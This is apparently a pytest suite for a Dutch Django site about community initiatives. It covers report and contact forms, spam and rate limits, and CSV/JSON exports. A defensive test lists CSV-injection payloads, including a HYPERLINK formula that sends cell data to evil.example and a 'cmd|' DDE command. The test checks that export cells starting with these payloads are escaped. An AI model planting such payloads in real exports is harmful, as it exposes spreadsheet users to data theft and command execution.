from __future__ import annotations

import csv
import io
import json
import re

import pytest
from django.core import mail
from django.urls import reverse

from initiatives.models import Initiative, ProblemReport, Status
from initiatives.views import RATE_LIMIT
from tests.background import committed
from tests.factories import InitiativeFactory, UserFactory, municipality
from tests.sitemaps import sitemap_text

pytestmark = pytest.mark.django_db


@pytest.fixture
def owner():
    return UserFactory(email="geheim-beheerder@example.org")


@pytest.fixture
def initiative(owner):
    return InitiativeFactory(managers=[owner], name="Dorpscoöperatie Het Hart")


def test_report_a_problem(client, initiative):
    url = reverse("initiatives:report", args=[initiative.slug])
    assert client.get(url).status_code == 200
    with committed():
        response = client.post(url, {"reason": "onjuist", "message": "Het adres is verhuisd."})
    assert response.status_code == 302
    report = ProblemReport.objects.get()
    assert report.initiative == initiative and report.message == "Het adres is verhuisd."
    assert len(mail.outbox) == 1  # to the editors


@pytest.mark.parametrize(
    "data",
    [
        {},
        {"reason": "bestaat-niet-als-reden"},
        {"reason": "anders", "message": "<script>x</script>"},
        {"reason": "anders", "message": "x" * 3000},
    ],
)
def test_report_bad_input(client, initiative, data):
    response = client.post(reverse("initiatives:report", args=[initiative.slug]), data)
    assert response.status_code == 400
    assert not ProblemReport.objects.exists()


def test_report_honeypot_is_ignored_silently(client, initiative):
    response = client.post(
        reverse("initiatives:report", args=[initiative.slug]), {"reason": "anders", "website_url": "http://spam"}
    )
    assert response.status_code == 302
    assert not ProblemReport.objects.exists()


def test_report_is_rate_limited(client, initiative):
    url = reverse("initiatives:report", args=[initiative.slug])
    for _ in range(RATE_LIMIT):
        assert client.post(url, {"reason": "anders"}).status_code == 302
    response = client.post(url, {"reason": "anders"})
    assert response.status_code == 429
    assert "Probeer het over een uur opnieuw" in response.content.decode()
    assert ProblemReport.objects.count() == RATE_LIMIT


def test_report_on_hidden_initiative_is_404(client):
    hidden = InitiativeFactory(status=Status.SUBMITTED)
    assert client.post(reverse("initiatives:report", args=[hidden.slug]), {"reason": "anders"}).status_code == 404


def test_contact_mails_managers_without_showing_their_address(client, initiative, owner):
    detail = client.get(initiative.get_absolute_url()).content.decode()
    assert owner.email not in detail
    with committed():
        response = client.post(
            reverse("initiatives:contact", args=[initiative.slug]),
            {"name": "Ans", "email": "ans@example.org", "message": "Mag ik meedoen?"},
        )
    assert response.status_code == 302
    assert mail.outbox[0].to == [owner.email]
    assert mail.outbox[0].reply_to == ["ans@example.org"]
    assert "Mag ik meedoen?" in mail.outbox[0].body


def test_contact_bad_input_and_spam(client, initiative):
    url = reverse("initiatives:contact", args=[initiative.slug])
    assert client.post(url, {"name": "<b>x</b>", "email": "nee", "message": ""}).status_code == 400
    assert (
        client.post(url, {"name": "Bot", "email": "b@example.org", "message": "koop", "website_url": "x"}).status_code
        == 302
    )
    assert mail.outbox == []


def test_public_email_is_shown_when_chosen(client):
    initiative = InitiativeFactory(public_email="info@hethart.example.org")
    assert "info@hethart.example.org" in client.get(initiative.get_absolute_url()).content.decode()


EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
PHONE = re.compile(r"\b0\d{9}\b|\+31")


def test_csv_export_has_published_only_and_no_personal_data(client, initiative, owner):
    InitiativeFactory(name="Geheim In Behandeling", status=Status.SUBMITTED)
    initiative.public_email = "info@hethart.example.org"
    initiative.save()
    response = client.get(reverse("initiatives:export_csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["naam"] for r in rows] == ["Dorpscoöperatie Het Hart"]
    assert rows[0]["gemeentecode"] == municipality("Utrecht").code
    assert not EMAIL.search(text) and not PHONE.search(text)


HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_export_never_hands_a_spreadsheet_a_formula(client, value):
    """CSV injection (issue #17): a cell that starts like a formula gets an apostrophe in front."""
    InitiativeFactory(name=value, area=value, description=value)
    text = b"".join(client.get(reverse("initiatives:export_csv")).streaming_content).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["naam"] == row["wijk_of_dorp"] == row["beschrijving"] == "'" + value


def _body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_json_export_has_licence_and_columns(client, initiative):
    response = client.get(reverse("initiatives:export_json"))
    text = _body(response)
    data = json.loads(text)
    assert "CC0" in data["licentie"]
    assert set(data["kolommen"]) == set(data["initiatieven"][0])
    assert data["initiatieven"][0]["naam"] == initiative.name
    assert not EMAIL.search(text)


def test_json_export_is_valid_when_empty(client):
    data = json.loads(_body(client.get(reverse("initiatives:export_json"))))
    assert data["initiatieven"] == []


def test_exports_read_in_chunks_with_a_fixed_number_of_queries(client, initiative, django_assert_max_num_queries):
    InitiativeFactory.create_batch(4)
    with django_assert_max_num_queries(8):
        rows = list(csv.DictReader(io.StringIO(_body(client.get(reverse("initiatives:export_csv"))))))
    assert len(rows) == 5


@pytest.mark.parametrize("chunk", [1, 2, 3, 7])
def test_exports_give_every_row_once_in_order_across_chunks(client, monkeypatch, chunk):
    """Each chunk starts after the last row of the one before (name, then key): same names across a chunk border
    are neither skipped nor repeated, whatever the chunk size."""
    from initiatives import exports

    for name in ["Buurthuis", "Buurthuis", "Buurthuis", "Aardige buren", "Zonnedak", "Buurthuis", "Moestuin"]:
        InitiativeFactory(name=name)
    expected = list(Initiative.objects.published().order_by("name", "pk").values_list("slug", flat=True))
    monkeypatch.setattr(exports, "CHUNK", chunk)
    rows = list(csv.DictReader(io.StringIO(_body(client.get(reverse("initiatives:export_csv"))))))
    assert [row["url"].rstrip("/").rsplit("/", 1)[-1] for row in rows] == expected
    data = json.loads(_body(client.get(reverse("initiatives:export_json"))))
    assert len(data["initiatieven"]) == len(expected) == 7


def test_exports_answer_not_modified_until_an_initiative_changes(client, initiative):
    for name in ("initiatives:export_csv", "initiatives:export_json"):
        first = client.get(reverse(name))
        _body(first)
        assert client.get(reverse(name), HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304
        initiative.name = f"{initiative.name} (nieuw)"
        initiative.save()
        again = client.get(reverse(name), HTTP_IF_NONE_MATCH=first["ETag"])
        assert again.status_code == 200 and "(nieuw)" in _body(again)


def test_sitemap_lists_published_initiatives(client, initiative):
    InitiativeFactory(name="Verborgen", status=Status.SUBMITTED)
    body = sitemap_text(client)
    assert initiative.get_absolute_url() in body
    assert "verborgen" not in body


def test_personal_data_export_contains_managed_initiatives(client, owner, initiative):
    client.force_login(owner)
    data = json.loads(client.get(reverse("my_data_export")).content)
    assert data["initiatieven"]["beheert"][0]["initiatief"] == initiative.name
